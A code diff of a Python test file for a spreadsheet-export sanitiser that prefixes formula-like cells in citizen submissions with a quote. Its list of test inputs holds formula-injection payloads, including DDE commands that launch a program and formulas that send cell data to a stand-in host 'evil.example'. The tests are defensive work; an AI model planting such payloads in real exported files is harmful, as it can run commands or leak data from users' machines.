@@ -1,4 +1,4 @@
-"""No cell that somebody wrote is run by a spreadsheet, however its beginning is spelt."""
+"""A spreadsheet never runs a citizen's text as a formula."""
 
 import csv
 import io
@@ -15,21 +15,85 @@ from schemas.wording import harmless
 SIGNS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪⁼₌⁺₊⁻₋−‐"
 """Usual, full-width, small, raised and lowered, and the other signs of minus."""
 BEFORE = (
-    "", " ", "  ", "\t", "\r", "\n", "\r\n", "\v", "\f", "\0", "\x1b", "\x7f", "\x85", "\u00a0",
-    "\u3000", "\u2003", "\u2028", "\u2029", "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060",
-    "\u200e", "\u202e", "\u2066", "\u00ad", "\u180e", "\u061c", "\u115f", "\u3164", "\uffa0",
-    "\u2800", "\ufe0f", "\u034f", "\U000e0020", " \t\ufeff\u200b",
-)  # fmt: skip
+    "",
+    " ",
+    "  ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\v",
+    "\f",
+    "\0",
+    "\x1b",
+    "\x7f",
+    "\x85",
+    "\u00a0",
+    "\u3000",
+    "\u2003",
+    "\u2028",
+    "\u2029",
+    "\ufeff",
+    "\u200b",
+    "\u200c",
+    "\u200d",
+    "\u2060",
+    "\u200e",
+    "\u202e",
+    "\u2066",
+    "\u00ad",
+    "\u180e",
+    "\u061c",
+    "\u115f",
+    "\u3164",
+    "\uffa0",
+    "\u2800",
+    "\ufe0f",
+    "\u034f",
+    "\U000e0020",
+    " \t\ufeff\u200b",
+)
 FORMULAS = (
-    "=1+1", "＝1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/"&A1)', "@SUM(1+1)",
-    "+1+cmd|' /C calc'!A0", "-2+3", "|calc", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
-    '=WEBSERVICE("http://evil.example/")', '=IMPORTXML("http://evil.example/","//a")',
-    "=\t1+1", "==1", "＝＝1", "+A1", "-A1", "＠SUM(A1)", "−A1",
-)  # fmt: skip
+    "=1+1",
+    "＝1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "|calc",
+    "%0A=1+1",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("http://evil.example/")',
+    '=IMPORTXML("http://evil.example/","//a")',
+    "=\t1+1",
+    "==1",
+    "＝＝1",
+    "+A1",
+    "-A1",
+    "＠SUM(A1)",
+    "−A1",
+)
 PLAIN = (
-    "", "路灯不亮", "1+1=2", "a=b", "邮箱 a@b.cn", "涨了 5%", "——来自群众", "—破折号", "（-5 ℃）",
-    "138****0000", "'=1+1", "“=1+1”", "3-5 天", "2026-11-28", "#12", "/路", "·", "～",
-)  # fmt: skip
+    "",
+    "路灯不亮",
+    "1+1=2",
+    "a=b",
+    "邮箱 a@b.cn",
+    "涨了 5%",
+    "——来自群众",
+    "—破折号",
+    "（-5 ℃）",
+    "138****0000",
+    "'=1+1",
+    "“=1+1”",
+    "3-5 天",
+    "2026-11-28",
+    "#12",
+    "/路",
+    "·",
+    "～",
+)
 SIGNED = ("-5", "+5", "-3.5", "+86 138 0013 8000", "+8613800138000", "－５", "-", "+")
 
 
@@ -43,7 +107,7 @@ def test_every_sign_after_every_blank_is_disarmed(sign: str) -> None:
 
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_formulas_that_were_seen_elsewhere_are_disarmed(cell: str) -> None:
-    """Calculations, links, DDE, and what asks another machine."""
+    """Known formula attacks are disarmed: calculations, links, DDE, external requests."""
     assert harmless(cell) == f"'{cell}"
     assert harmless(harmless(cell)) == f"'{cell}"
 
@@ -62,7 +126,7 @@ def test_signed_numbers_are_shown_as_they_were_written(cell: str) -> None:
 
 @pytest.mark.parametrize("control", ["\t", "\r", "\n", "\0", "\x1b"])
 def test_a_control_character_at_the_beginning_is_disarmed(control: str) -> None:
-    """Whatever follows it."""
+    """A leading control character is disarmed, independent of the rest of the cell."""
     assert harmless(f"{control}路灯") == f"'{control}路灯"
 
 
@@ -79,7 +143,7 @@ def test_a_workbook_holds_text_only() -> None:
 
 @given(st.text(max_size=30))
 def test_a_table_comes_back_as_it_was_written(text: str) -> None:
-    """Whatever stands in a cell: commas, quotes, line ends stay in it."""
+    """A written table reads back unchanged, with commas, quotes and line ends."""
     cell = harmless(text.encode(errors="ignore").decode())
     written = as_csv([["标题", "内容"], [cell, "后"]]).decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(written, newline="")))[1] == [cell, "后"]
